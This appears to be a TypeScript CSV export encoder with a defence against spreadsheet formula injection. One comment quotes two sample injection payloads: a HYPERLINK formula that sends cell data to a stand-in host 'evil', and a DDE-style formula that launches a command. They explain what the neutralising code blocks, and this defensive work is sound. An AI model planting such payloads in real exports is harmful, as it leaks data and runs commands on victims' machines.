import type { CellType, ExportColumn } from './columns.ts';

/** Delimiters a client may ask for: `,` (RFC 4180), `;` for locales whose spreadsheets expect it, tab and `|`. */
export const CSV_DELIMITERS = [',', ';', '\t', '|'] as const;

export interface CsvOptions {
  delimiter: string;
  /** A UTF-8 byte order mark first, which some spreadsheet programs need to read UTF-8. */
  bom: boolean;
  /** Text that a spreadsheet would run as a formula gets a leading `'` (see `neutralise`); on unless asked off. */
  escapeFormulas: boolean;
}

/** The API's CSV: RFC 4180 with `,`, no byte order mark, formula-like text neutralised. */
export const CSV_DEFAULTS: CsvOptions = { delimiter: ',', bom: false, escapeFormulas: true };

type Encode = (value: unknown) => string;

/** What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab, CR. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain signed number (`-123`, `+4.5`, `-1,234.50`): a spreadsheet reads it as a number, never a formula. */
const PLAIN_NUMBER = /^[+-]?[0-9][0-9.,]*$/;

/**
 * CSV injection: a text cell such as `=HYPERLINK("http://evil/?"&A1,"Click")` or `@SUM(1+9)*cmd|' /C calc'!A0`
 * runs as a formula in the spreadsheet of whoever opens the export, with data of other rows at hand. OWASP's
 * remedy: such a cell starts with `'`, which spreadsheets take as "this is text". A text that is only a
 * signed number (an article number `-123`) is left alone: it cannot be a formula, and the quote would change
 * data that programs read. Only text and JSON cells get here: numbers, money and dates are written as they are.
 */
export const neutralise = (s: string): string => (FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s);

/*
 * RFC 4180 fields written by hand rather than through csv-stringify: `npm run bench:exports` encodes the rows of
 * 100 000 products in memory both ways, and csv-stringify fed row objects needs 2.0-2.8 s on this machine (more
 * than twice the whole `sqlite3 -csv` export of the table, so the 3x goal is out of reach with it), this loop
 * 0.2 s. The rules are few: a field that holds the delimiter, a quote, CR or LF is quoted, with quotes doubled;
 * records end in CRLF. Numbers, money and dates can hold none of those characters, so only text is checked.
 */
function encoder(type: CellType, delimiter: string, escapeFormulas: boolean): Encode {
  const special = new RegExp(`[${delimiter === '\t' ? '\\t' : `\\${delimiter}`}"\\r\\n]`);
  const quoted = (s: string): string => (special.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  const text = escapeFormulas ? (s: string): string => quoted(neutralise(s)) : quoted;
  switch (type) {
    case 'integer':
    case 'number':
      // As JSON shows it: drivers may hand numbers over as text (PostgreSQL numeric), JSON prints the number.
      return (v) => (v === null || v === undefined ? '' : typeof v === 'number' ? String(v) : String(Number(v)));
    case 'money':
    case 'datetime':
      return (v) => (v === null || v === undefined ? '' : String(v));
    case 'json':
      return (v) => (v === null || v === undefined ? '' : text(JSON.stringify(v)));
    default:
      return (v) => (v === null || v === undefined ? '' : text(typeof v === 'string' ? v : String(v)));
  }
}

/** Encodes rows of cells as CSV text, one column each, in large strings (a batch at a time). */
export class CsvEncoder {
  private readonly encoders: Encode[];
  private readonly delimiter: string;
  private readonly header: string;

  constructor(columns: ExportColumn[], options: CsvOptions) {
    this.delimiter = options.delimiter;
    this.encoders = columns.map((c) => encoder(c.type, options.delimiter, options.escapeFormulas));
    const names = encoder('string', options.delimiter, false);
    this.header = (options.bom ? '\uFEFF' : '') + columns.map((c) => names(c.name)).join(this.delimiter) + '\r\n';
  }

  head(): string {
    return this.header;
  }

  rows(rows: unknown[][]): string {
    const { encoders, delimiter } = this;
    const n = encoders.length;
    let out = '';
    for (const row of rows) {
      let line = encoders[0](row[0]);
      for (let i = 1; i < n; i++) line += delimiter + encoders[i](row[i]);
      out += line + '\r\n';
    }
    return out;
  }
}
